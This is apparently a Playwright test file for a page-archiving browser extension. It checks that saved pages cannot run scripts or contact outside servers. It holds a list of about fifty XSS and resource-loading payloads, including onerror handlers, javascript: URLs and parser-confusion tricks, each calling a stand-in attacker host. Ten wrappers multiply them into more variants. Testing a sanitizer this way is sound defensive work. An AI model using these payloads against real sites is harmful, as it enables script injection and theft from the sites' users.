// Kept pages that were made to attack whoever opens them: nothing of them runs, nothing is asked of any server.
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { openBar, press } from './harness/bar';
import { type Extension, launchExtension } from './harness/extension';
import { emptyLibrary, ownPage, rows, waitForRows } from './harness/library';
import { waitForPaint } from './harness/painted';
import { officialPage } from './harness/sample-pages';
import { OFFICIAL } from './harness/server';

const EVIL = 'http://evil.example.com';
const RUN = `fetch('${EVIL}/ran')`;

/** Known ways to run or to ask, after OWASP's list of filter evasions and the browsers' own elements that load. */
const KNOWN = [
  `<script>${RUN}</script>`,
  `<script src="${EVIL}/a.js"></script>`,
  `<script type="module">import '${EVIL}/m.js'</script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="${EVIL}/a.png">`,
  `<img srcset="${EVIL}/a.png 2x">`,
  `<picture><source srcset="${EVIL}/s.png"><img></picture>`,
  `<svg onload="${RUN}"></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><image href="${EVIL}/i.svg"/><use href="${EVIL}/u.svg#a"/></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<svg><foreignObject><iframe src="${EVIL}/f"></iframe></foreignObject></svg>`,
  `<math><mtext><img src=x onerror="${RUN}"></mtext></math>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<iframe src="${EVIL}/f"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<object data="${EVIL}/o"></object>`,
  `<embed src="${EVIL}/e">`,
  `<link rel="stylesheet" href="${EVIL}/l.css">`,
  `<link rel="preload" as="image" href="${EVIL}/p.png">`,
  `<link rel="dns-prefetch prefetch" href="${EVIL}/d">`,
  `<meta http-equiv="refresh" content="900;url=${EVIL}/r">`,
  `<base href="${EVIL}/">`,
  `<style>@import '${EVIL}/i.css'; @font-face{font-family:x;src:url(${EVIL}/f.woff)} p{background:url(${EVIL}/b.png);font-family:x}</style>`,
  `<p style="background:url(${EVIL}/c.png);list-style:url(${EVIL}/d.png)">x</p>`,
  `<table background="${EVIL}/t.png"><td background="${EVIL}/d.png">x</td></table>`,
  `<video src="${EVIL}/v.mp4" poster="${EVIL}/v.png" autoplay></video>`,
  `<audio src="${EVIL}/a.mp3" autoplay onerror="${RUN}"></audio>`,
  `<track src="${EVIL}/t.vtt">`,
  `<form action="${EVIL}/f"><button autofocus formaction="javascript:${RUN}">x</button></form>`,
  `<input autofocus onfocus="${RUN}">`,
  `<input type="image" src="${EVIL}/n.png">`,
  `<a href="javascript:${RUN}" ping="${EVIL}/ping">x</a>`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<select autofocus onfocus="${RUN}"><option>x</option></select>`,
  `<div onpointerenter="${RUN}" style="position:fixed;inset:0">x</div>`,
  `<template><script>${RUN}</script></template>`,
  `<template shadowrootmode="open"><img src=x onerror="${RUN}"></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${RUN}">`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<textarea><p title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
  `<!--><img src=x onerror="${RUN}">-->`,
  `<![CDATA[<img src=x onerror="${RUN}">]]>`,
  `<img name="getElementById"><img name="body"><form id="attributes"><input name="nodeName"></form>`,
  `<body onload="${RUN}" onpageshow="${RUN}">`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
];
/** Places in which parsers have been led astray. */
const WRAPPED: ((attack: string) => string)[] = [
  (a) => a,
  (a) => a.replace(/<(\/?)([a-z])/g, (_, slash: string, first: string) => `<${slash}${first.toUpperCase()}`),
  (a) => `<table><tr><td>${a}</td></tr></table>`,
  (a) => `<table>${a}</table>`,
  (a) => `<svg><desc>${a}</desc></svg>`,
  (a) => `<math><annotation-xml encoding="text/html">${a}</annotation-xml></math>`,
  (a) => `<b><a><i>${a}</b></a></i>`,
  (a) => a.replaceAll('="', '\n=\t"'),
  (a) => `<select>${a}</select>`,
  (a) => `${'<div>'.repeat(300)}${a}`,
];
const ATTACKS = WRAPPED.flatMap((wrap) => KNOWN.map(wrap));

let extension: Extension;
let own: Page;

beforeAll(async () => {
  extension = await launchExtension();
  own = await ownPage(extension);
});
afterAll(() => extension?.close());

/** Saves a page, whose own server forbids it to attack its readers, so that only we could let it. */
async function save(html: string): Promise<string> {
  const page = await extension.context.newPage();
  await page.route(OFFICIAL, (route) =>
    route.fulfill({
      contentType: 'text/html; charset=utf-8',
      headers: { 'content-security-policy': "default-src 'none'; style-src 'unsafe-inline'" },
      body: html,
    }),
  );
  await page.goto(OFFICIAL);
  await waitForPaint(page);
  await openBar(page);
  await press(page, 'button', /^存/);
  await waitForRows(own, 'originals', 1);
  await page.close();
  const [document] = await rows(own, 'documents');
  return String(document?.id);
}

it(`of ${ATTACKS.length} attacks kept with their pages none runs and none asks`, { timeout: 120_000 }, async () => {
  const told: string[] = [];
  const library = await extension.context.newPage();
  library.on('requestfailed', (request) => {
    const why = request.failure()?.errorText;
    // What the frame's policy stops is never sent.
    if (why !== 'csp') told.push(`${why} ${request.url()}`);
  });
  library.on('requestfinished', (request) => {
    if (!/^(chrome-extension|data|about|blob):/.test(request.url())) told.push(`asked ${request.url()}`);
  });
  library.on('console', (message) => {
    if (/Blocked script|Refused to/.test(message.text())) told.push(message.text());
  });
  library.on('dialog', (dialog) => void dialog.dismiss().then(() => told.push('dialog')));
  const size = KNOWN.length;
  for (let from = 0; from < ATTACKS.length; from += size) {
    const attacks = ATTACKS.slice(from, from + size).map((attack, i) => `<div>${i}${attack}</div>`);
    // After the text, so that it is read and saved whatever the parser makes of the rest.
    const id = await save(officialPage().replace('</body>', `${attacks.join('\n')}<p>终</p></body>`));
    await library.goto(extension.page(`library.html#/saved/${id}`));
    await library.getByRole('switch', { name: '网页存档' }).click();
    const frame = library.frameLocator('iframe[title="网页存档"]');
    await frame.getByText('索 引 号').waitFor();
    await library.waitForTimeout(200);
    expect(
      await frame.locator('script, iframe, object, embed, form, svg, math, [href], [onerror], [onload]').count(),
    ).toBe(0);
    await library.goto('about:blank');
    await emptyLibrary(own);
  }
  expect(told).toEqual([]);
  expect(extension.server.asked.filter((url) => url.startsWith(EVIL))).toEqual([]);
});
